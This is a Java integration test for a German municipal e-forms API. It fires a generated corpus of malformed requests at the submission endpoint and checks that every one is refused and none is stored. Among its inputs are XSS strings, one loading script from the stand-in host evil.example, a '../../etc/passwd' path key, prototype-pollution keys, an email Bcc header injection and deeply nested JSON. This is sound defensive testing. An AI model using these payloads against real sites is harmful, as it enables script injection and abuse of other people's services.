package de.rathaus.forms.api;

import static org.assertj.core.api.Assertions.assertThat;

import de.rathaus.IntegrationTest;
import de.rathaus.Visitor;
import de.rathaus.forms.definition.Answers;
import de.rathaus.forms.definition.Field;
import de.rathaus.forms.definition.FieldType;
import de.rathaus.forms.definition.FormRules;
import de.rathaus.forms.library.FormLibrary;
import de.rathaus.forms.library.PublishedForm;
import de.rathaus.forms.submission.Submissions;
import de.rathaus.identity.TestAccounts;
import de.rathaus.identity.account.Account;
import de.rathaus.platform.tenancy.CurrentTenant;
import de.rathaus.platform.tenancy.Tenant;
import de.rathaus.platform.tenancy.Tenants;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.ApplicationContext;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * A generated corpus of malformed and hostile requests, built from the demo forms that a citizen
 * with a password login (BASIC) may send, each request a valid application with one thing broken:
 * wrong JSON types per field, 1 MB strings, unknown members, deep nesting, invalid UTF-8, duplicate
 * keys, numbers out of range, NaN and Infinity, nulls, arrays for objects, empty and non-JSON
 * bodies. Every one is refused with a problem: 400, 413 when the body is over the form's limit
 * (1 MB plus its files in Base64), 415 for another content type than JSON in UTF-8; never a 5xx;
 * and not one application is stored. Script tags are data: where a text may hold them they are
 * stored verbatim, and no refusal ever echoes them.
 */
@IntegrationTest
class HostilePayloadsIT {

    private static final List<String> FORMS = List.of(
            "fundsache-melden",
            "hund-anmelden",
            "anwohnerparkausweis",
            "sperrmuell-anmelden",
            "kita-platz-vormerken",
            "veranstaltung-anzeigen");
    private static final String MEGABYTE_OF_TEXT = "a".repeat(1024 * 1024);
    private static final Pattern CSRF = Pattern.compile("name=\"_csrf\"\\s+value=\"([^\"]+)\"");
    private static final List<String> SCRIPTS = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "</textarea><script src=//evil.example/x.js></script>");

    /** One request of the corpus and the statuses it may get. */
    record Payload(String form, String what, String contentType, byte[] body, Set<Integer> expected) {}

    @LocalServerPort
    int port;

    @Autowired
    ApplicationContext context;

    @Autowired
    FormLibrary library;

    @Autowired
    Submissions submissions;

    @Autowired
    Tenants tenants;

    @Autowired
    JdbcClient jdbc;

    private Api citizen;

    @BeforeEach
    void signIn() {
        Tenant musterstadt = musterstadt();
        Account account = new TestAccounts(context).citizen(musterstadt);
        Visitor visitor = new Visitor(port, "localhost");
        visitor.signIn(account.email(), TestAccounts.PASSWORD);
        // a page with the sign-out form carries the CSRF token, needed only for the non-JSON bodies
        Matcher token = CSRF.matcher(visitor.get("/").body());
        assertThat(token.find()).isTrue();
        citizen = new Api(port, "localhost")
                .withHeader(
                        "Cookie",
                        "RATHAUS_SESSION=" + visitor.cookie("RATHAUS_SESSION").orElseThrow() + "; XSRF-TOKEN="
                                + visitor.cookie("XSRF-TOKEN").orElseThrow())
                .withHeader("X-XSRF-TOKEN", token.group(1));
    }

    @Test
    void everyHostilePayloadIsRefusedWithAProblemAndNothingIsStored() {
        Map<String, String> ids = new LinkedHashMap<>();
        List<Payload> corpus = new ArrayList<>();
        for (String key : FORMS) {
            PublishedForm form = published(key);
            ids.put(key, form.id().value().toString());
            ObjectNode valid = validAnswers(key, form);
            // the starting point is accepted, so each refusal below is the broken part's doing
            HttpResponse<String> accepted = citizen.submit(ids.get(key), Api.envelope(valid), Map.of());
            assertThat(accepted.statusCode()).as(key + ": " + accepted.body()).isEqualTo(201);
            corpus.addAll(payloads(key, form, valid));
        }
        assertThat(corpus).hasSizeGreaterThanOrEqualTo(1000);
        long before = storedApplications();

        List<String> unexpected = new ArrayList<>();
        for (Payload payload : corpus) {
            HttpResponse<String> response;
            try {
                response = citizen.post(
                        "/api/v1/forms/" + ids.get(payload.form()) + "/submissions",
                        payload.contentType(),
                        payload.body(),
                        Map.of("Idempotency-Key", UUID.randomUUID().toString()));
            } catch (IllegalStateException e) {
                unexpected.add(payload.form() + " / " + payload.what() + " → " + e.getMessage());
                continue;
            }
            boolean asExpected = payload.expected().contains(response.statusCode())
                    && response.headers().firstValue("Content-Type").orElse("").equals("application/problem+json")
                    && !response.body().contains("<script")
                    && !response.body().contains("onerror=");
            if (!asExpected) {
                unexpected.add(payload.form() + " / " + payload.what() + " → " + response.statusCode() + " "
                        + response.body()
                                .substring(0, Math.min(300, response.body().length())));
            }
        }

        assertThat(unexpected).as("payloads answered otherwise").isEmpty();
        assertThat(storedApplications()).as("applications stored").isEqualTo(before);
    }

    @Test
    void scriptTagsInTextsAreStoredVerbatimAsData() {
        String key = "fundsache-melden";
        PublishedForm form = published(key);
        for (String script : SCRIPTS) {
            ObjectNode answers = validAnswers(key, form);
            answers.put("gegenstand", script);
            answers.put("beschreibung", "Gefunden: " + script);

            HttpResponse<String> response =
                    citizen.submit(form.id().value().toString(), Api.envelope(answers), Map.of());

            assertThat(response.statusCode()).as(response.body()).isEqualTo(201);
            assertThat(response.body()).doesNotContain(script);
            UUID id = UUID.fromString(Api.json(response).path("id").asString());
            var stored = CurrentTenant.runAs(musterstadt(), () -> submissions.find(id))
                    .orElseThrow()
                    .answers();
            assertThat(stored.get("gegenstand").asString()).isEqualTo(script);
            assertThat(stored.get("beschreibung").asString()).isEqualTo("Gefunden: " + script);
        }
    }

    /** Everything broken for one form, one thing at a time. */
    private List<Payload> payloads(String key, PublishedForm form, ObjectNode valid) {
        long limit = Uploads.bodyLimit(form.definition());
        List<Payload> payloads = new ArrayList<>();
        Set<Integer> bad = Set.of(400);
        for (Field field : form.definition().fields()) {
            String id = field.id();
            // what breaks the body's syntax or a value no form accepts is refused for every field
            if (isText(field)) {
                payloads.add(
                        json(key, id + " NUL", with(valid, id, JsonNodeFactory.instance.stringNode("a\u0000b")), bad));
                for (byte[] sequence : INVALID_UTF8) {
                    payloads.add(raw(key, id + " invalid UTF-8", replaceValue(valid, id, sequence)));
                }
            }
            for (String token : List.of(
                    "NaN",
                    "Infinity",
                    "-Infinity",
                    "0x10",
                    "01",
                    "+1",
                    ".5",
                    "1.",
                    "1e",
                    "--1",
                    "1e400",
                    "-1e400",
                    "1e-400",
                    "1234567890123456789012345678901234567890",
                    "-0.0000000000000000000000000000000001")) {
                payloads.add(raw(key, id + " = " + token, rawValue(valid, id, token)));
            }
            payloads.add(raw(key, id + " nested 10,000 deep", rawValue(valid, id, nested(10_000))));
            payloads.add(raw(key, id + " nested 60 deep", rawValue(valid, id, nested(60))));
            payloads.add(raw(key, id + " duplicate", duplicate(valid, id)));
            // a field hidden by the other answers is dropped, whatever it holds; the rest is checked
            if (!shown(form, valid, id)) {
                continue;
            }
            for (JsonNode wrong : wrongTypes(field)) {
                payloads.add(json(key, id + " as " + wrong, with(valid, id, wrong), bad));
            }
            payloads.add(raw(key, id + " nested 40 deep", rawValue(valid, id, nested(40))));
            if (field.required()) {
                ObjectNode nulled = valid.deepCopy();
                nulled.putNull(id);
                payloads.add(json(key, id + " null", nulled, bad));
                ObjectNode missing = valid.deepCopy();
                missing.remove(id);
                payloads.add(json(key, id + " missing", missing, bad));
            }
            if (isText(field)) {
                ObjectNode huge = with(valid, id, JsonNodeFactory.instance.stringNode(MEGABYTE_OF_TEXT));
                byte[] body = bytes(Api.envelope(huge));
                payloads.add(new Payload(
                        key, id + " 1 MB", "application/json", body, Set.of(body.length > limit ? 413 : 400)));
                if (field.type() != FieldType.TEXT && field.type() != FieldType.LONG_TEXT) {
                    for (String script : SCRIPTS) {
                        payloads.add(json(
                                key,
                                id + " script",
                                with(valid, id, JsonNodeFactory.instance.stringNode(script)),
                                bad));
                    }
                }
            }
            if (field.type() == FieldType.NUMBER || field.type() == FieldType.MONEY) {
                for (String number : outOfRange(field)) {
                    payloads.add(raw(key, id + " = " + number, rawValue(valid, id, number)));
                }
            }
        }
        for (String unknown :
                List.of("unbekannt", "__proto__", "constructor", "$where", "", "../../etc/passwd", "a/b~c")) {
            payloads.add(json(
                    key, "unknown " + unknown, with(valid, unknown, JsonNodeFactory.instance.stringNode("x")), bad));
            payloads.add(json(
                    key,
                    "unknown object " + unknown,
                    with(valid, unknown, JsonNodeFactory.instance.objectNode()),
                    bad));
        }
        payloads.addAll(envelopes(key, valid));
        return payloads;
    }

    /** The body around the answers: its shape, its syntax, its type. */
    private List<Payload> envelopes(String key, ObjectNode valid) {
        String answers = new String(bytes(valid), StandardCharsets.UTF_8);
        Set<Integer> bad = Set.of(400);
        List<Payload> payloads = new ArrayList<>();
        for (String body : List.of(
                "",
                " ",
                "null",
                "true",
                "42",
                "\"answers\"",
                "[]",
                "[" + answers + "]",
                "{}",
                "{\"answers\": null}",
                "{\"answers\": []}",
                "{\"answers\": \"" + "x" + "\"}",
                "{\"answers\": " + answers + ", \"answers\": " + answers + "}",
                "{\"answers\": " + answers + ", \"admin\": true}",
                "{\"answers\": " + answers + ", \"contactEmail\": 42}",
                "{\"answers\": " + answers + ", \"contactEmail\": \"keine Adresse\"}",
                "{\"answers\": " + answers + ", \"contactEmail\": \"a@b.de\\r\\nBcc: x@y.de\"}",
                "{\"answers\": " + answers,
                "{\"answers\": " + answers + "}}",
                "{\"answers\": " + answers + "} trailing",
                "{'answers': " + answers + "}",
                "{answers: " + answers + "}",
                "{\"answers\": " + answers + ",}",
                "{\"answers\": NaN}",
                "{\"answers\": Infinity}",
                "{\"answers\": -Infinity}",
                "/* comment */ {\"answers\": " + answers + "}",
                "\uFEFF{\"answers\": " + answers + "}x",
                "[".repeat(10_000) + "]".repeat(10_000),
                "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000))) {
            payloads.add(new Payload(
                    key,
                    "body " + body.substring(0, Math.min(40, body.length())),
                    "application/json",
                    body.getBytes(StandardCharsets.UTF_8),
                    bad));
        }
        byte[] good = bytes(Api.envelope(valid));
        for (String type : List.of(
                "text/plain",
                "application/xml",
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x",
                "application/json; charset=ISO-8859-1",
                "application/json; charset=UTF-16",
                "application/json; charset=kaputt",
                "application/*",
                "*/*",
                "kaputt")) {
            payloads.add(new Payload(key, "content type " + type, type, good, Set.of(415)));
        }
        payloads.add(new Payload(key, "no content type", null, good, Set.of(415)));
        ObjectNode withUmlaut = Api.envelope(valid);
        withUmlaut.put("contactEmail", "grüße@example.de");
        byte[] latin1 = new String(bytes(withUmlaut), StandardCharsets.UTF_8).getBytes(StandardCharsets.ISO_8859_1);
        payloads.add(new Payload(key, "Latin-1 bytes", "application/json", latin1, bad));
        byte[] utf16 = new String(good, StandardCharsets.UTF_8).getBytes(StandardCharsets.UTF_16);
        payloads.add(new Payload(key, "UTF-16 bytes", "application/json", utf16, bad));
        long limit = Uploads.bodyLimit(published(key).definition());
        // a body far over a large limit (forms with files) is refused the same way, but the server
        // then closes the connection instead of reading megabytes to throw away: no answer to test
        if (limit <= 2 * 1024 * 1024) {
            byte[] oversized = new byte[(int) limit + 10];
            java.util.Arrays.fill(oversized, (byte) ' ');
            payloads.add(new Payload(key, "over the limit", "application/json", oversized, Set.of(413)));
        }
        return payloads;
    }

    private static List<JsonNode> wrongTypes(Field field) {
        JsonNodeFactory nodes = JsonNodeFactory.instance;
        List<JsonNode> wrong = new ArrayList<>();
        ArrayNode strings = nodes.arrayNode().add("a");
        ObjectNode object = nodes.objectNode().put("a", 1);
        switch (field.type()) {
            case NUMBER, MONEY ->
                wrong.addAll(List.of(
                        nodes.stringNode("42"),
                        nodes.stringNode("abc"),
                        nodes.booleanNode(true),
                        strings,
                        object,
                        nodes.stringNode("NaN")));
            case YES_NO ->
                wrong.addAll(List.of(
                        nodes.stringNode("true"), nodes.stringNode("ja"), nodes.numberNode(1), strings, object));
            case CHECKBOX ->
                wrong.addAll(List.of(
                        nodes.stringNode(field.options().getFirst().value()),
                        nodes.numberNode(1),
                        object,
                        nodes.arrayNode().add(1),
                        nodes.arrayNode().add(true),
                        nodes.arrayNode().add(nodes.arrayNode()),
                        nodes.arrayNode().add("gibt-es-nicht")));
            case ADDRESS ->
                wrong.addAll(List.of(
                        nodes.stringNode("Marktplatz 1, 86150 Musterstadt"),
                        nodes.numberNode(1),
                        nodes.arrayNode().add("Marktplatz 1"),
                        nodes.objectNode()
                                .put("street", 1)
                                .put("postcode", 86150)
                                .put("city", true),
                        nodes.objectNode()
                                .put("street", "Marktplatz 1")
                                .put("postcode", "8615")
                                .put("city", "Musterstadt"),
                        nodes.objectNode()
                                .put("street", "Marktplatz 1")
                                .put("postcode", "86150")
                                .put("city", "Musterstadt")
                                .put("land", "XY")));
            case FILE ->
                wrong.addAll(List.of(
                        nodes.stringNode("datei.png"),
                        nodes.numberNode(1),
                        strings,
                        nodes.objectNode().put("name", "datei.png"),
                        nodes.objectNode().put("name", 1).put("content", Api.PNG),
                        nodes.objectNode().put("name", "datei.png").put("content", "%%% kein Base64 %%%"),
                        nodes.objectNode().put("name", "datei.png").put("content", ""),
                        nodes.objectNode()
                                .put("file", UUID.randomUUID().toString())
                                .put("name", "datei.png")
                                .put("size", 10)
                                .put("type", "image/png"),
                        nodes.objectNode()
                                .put("name", "datei.png")
                                .put(
                                        "content",
                                        java.util.Base64.getEncoder()
                                                .encodeToString("<html><script>alert(1)</script></html>"
                                                        .getBytes(StandardCharsets.UTF_8)))));
            case GROUP ->
                wrong.addAll(List.of(
                        nodes.stringNode("x"),
                        nodes.numberNode(1),
                        object,
                        nodes.arrayNode(),
                        nodes.arrayNode().add(1),
                        nodes.arrayNode().add("x"),
                        nodes.arrayNode().add(nodes.objectNode()),
                        nodes.arrayNode().add(nodes.objectNode().put("unbekannt", 1)),
                        nodes.arrayNode().add(nodes.arrayNode())));
            default ->
                wrong.addAll(List.of(
                        nodes.numberNode(42),
                        nodes.numberNode(new BigDecimal("1.5")),
                        nodes.booleanNode(true),
                        strings,
                        object));
        }
        if (field.type() == FieldType.SELECT || field.type() == FieldType.RADIO) {
            wrong.add(nodes.stringNode("gibt-es-nicht"));
        }
        if (field.type() == FieldType.DATE) {
            wrong.addAll(List.of(
                    nodes.stringNode("gestern"),
                    nodes.stringNode("2026-02-30"),
                    nodes.stringNode("31.12.2026"),
                    nodes.stringNode("+999999999-12-31")));
        }
        if (field.type() == FieldType.EMAIL) {
            wrong.addAll(List.of(nodes.stringNode("keine Adresse"), nodes.stringNode("a@b")));
        }
        return wrong;
    }

    /** Numbers the syntax allows but the field's limits do not. */
    private static List<String> outOfRange(Field field) {
        List<String> numbers = new ArrayList<>();
        if (field.rules().max() != null) {
            numbers.add(field.rules().max().add(BigDecimal.ONE).toPlainString());
        }
        if (field.rules().min() != null) {
            numbers.add(field.rules().min().subtract(BigDecimal.ONE).toPlainString());
        }
        if (field.type() == FieldType.MONEY) {
            numbers.add("10.001");
        }
        return numbers;
    }

    private static final List<byte[]> INVALID_UTF8 = List.of(
            new byte[] {(byte) 0xC3, 0x28},
            new byte[] {(byte) 0xA0, (byte) 0xA1},
            new byte[] {(byte) 0xE2, 0x28, (byte) 0xA1},
            new byte[] {(byte) 0xF0, 0x28, (byte) 0x8C, (byte) 0xBC},
            new byte[] {(byte) 0xFF},
            new byte[] {(byte) 0xC0, (byte) 0xAF},
            new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
            new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80});

    private static boolean shown(PublishedForm form, ObjectNode answers, String id) {
        return FormRules.withoutHidden(
                        form.definition(), Answers.of(with(answers, id, JsonNodeFactory.instance.stringNode("x"))))
                .has(id);
    }

    private static boolean isText(Field field) {
        return switch (field.type()) {
            case TEXT, LONG_TEXT, DATE, EMAIL, PHONE, IBAN, SELECT, RADIO -> true;
            default -> false;
        };
    }

    /** Valid answers of forms-core's demo form tests, files sent as the API takes them. */
    private ObjectNode validAnswers(String key, PublishedForm form) {
        ObjectNode answers = (ObjectNode) Api.JSON.readTree(resource("/forms/answers/" + key + ".json"));
        for (Field field : form.definition().fields()) {
            if (field.type() == FieldType.FILE && answers.has(field.id())) {
                ObjectNode file = answers.putObject(field.id());
                file.put("name", field.id() + ".png");
                file.put("content", Api.PNG);
            }
        }
        if (key.equals("fundsache-melden")) {
            answers.put("funddatum", LocalDate.now(ZoneId.of("Europe/Berlin")).toString());
        }
        return answers;
    }

    private static ObjectNode with(ObjectNode answers, String id, JsonNode value) {
        ObjectNode copy = answers.deepCopy();
        copy.set(id, value);
        return copy;
    }

    private static Payload json(String key, String what, ObjectNode answers, Set<Integer> expected) {
        return new Payload(key, what, "application/json", bytes(Api.envelope(answers)), expected);
    }

    private static Payload raw(String key, String what, byte[] body) {
        return new Payload(key, what, "application/json", body, Set.of(400));
    }

    /** The body with one answer's JSON text replaced by raw text (what a serializer would never write). */
    private static byte[] rawValue(ObjectNode answers, String id, String rawJson) {
        return replaceValue(answers, id, rawJson.getBytes(StandardCharsets.UTF_8));
    }

    private static byte[] replaceValue(ObjectNode answers, String id, byte[] raw) {
        String marker = "\"@@" + UUID.randomUUID() + "@@\"";
        ObjectNode copy = answers.deepCopy();
        copy.put(id, "@@");
        String text = new String(bytes(Api.envelope(copy)), StandardCharsets.UTF_8).replace("\"@@\"", marker);
        int at = text.indexOf(marker);
        var out = new ByteArrayOutputStream();
        out.writeBytes(text.substring(0, at).getBytes(StandardCharsets.UTF_8));
        boolean quoted = raw.length > 0
                && raw[0] != '['
                && raw[0] != '{'
                && !Character.isDigit(raw[0])
                && raw[0] != '-'
                && raw[0] != '+'
                && raw[0] != '.'
                && !startsWithLetterToken(raw);
        if (quoted) {
            out.write('"');
        }
        out.writeBytes(raw);
        if (quoted) {
            out.write('"');
        }
        out.writeBytes(text.substring(at + marker.length()).getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    /** Bare tokens such as NaN, Infinity or 0x10 go in unquoted; byte sequences go inside a string. */
    private static boolean startsWithLetterToken(byte[] raw) {
        String start = new String(raw, 0, Math.min(raw.length, 8), StandardCharsets.ISO_8859_1);
        return start.startsWith("NaN") || start.startsWith("Infinity");
    }

    private static byte[] duplicate(ObjectNode answers, String id) {
        String text = new String(
                bytes(Api.envelope(with(answers, id, JsonNodeFactory.instance.stringNode("x")))),
                StandardCharsets.UTF_8);
        String member = "\"" + id + "\":";
        int at = text.indexOf(member);
        String duplicated = text.substring(0, at) + member + "\"doppelt\"," + text.substring(at);
        return duplicated.getBytes(StandardCharsets.UTF_8);
    }

    private static String nested(int depth) {
        return "[".repeat(depth) + "]".repeat(depth);
    }

    private static byte[] bytes(JsonNode json) {
        return Api.JSON.writeValueAsBytes(json);
    }

    private PublishedForm published(String key) {
        return CurrentTenant.runAs(musterstadt(), () -> library.published(key)).orElseThrow();
    }

    private long storedApplications() {
        return jdbc.sql("select count(*) from forms.submission")
                .query(Long.class)
                .single();
    }

    private Tenant musterstadt() {
        return tenants.bySlug("musterstadt").orElseThrow();
    }

    private static String resource(String path) {
        try (InputStream in = HostilePayloadsIT.class.getResourceAsStream(path)) {
            if (in == null) {
                throw new IllegalArgumentException("No test resource " + path);
            }
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
